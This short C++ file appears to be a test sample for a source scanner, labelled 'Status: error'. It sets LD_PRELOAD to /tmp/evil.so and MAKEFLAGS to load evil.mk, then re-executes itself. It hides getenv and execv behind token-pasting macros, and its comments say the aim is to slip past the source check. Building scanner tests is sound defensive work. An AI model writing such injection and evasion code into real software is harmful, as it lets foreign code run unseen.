// What: starts itself again with LD_PRELOAD and MAKEFLAGS set
// Status: error
#define AND(a, b) a##b // what the look through the source does not see
#include <cstdlib>
#include <unistd.h>
#define GLUE(a, b) a##b // a plain name would not come past the look at the source
int main(int, char **argv)
{
    if (GLUE(get, env)("LD_PRELOAD")) return 0;
    setenv("LD_PRELOAD", "/tmp/evil.so", 1);
    setenv("MAKEFLAGS", "-f evil.mk", 1);
    AND(exe, cv)(argv[0], argv);
    return 9;
}
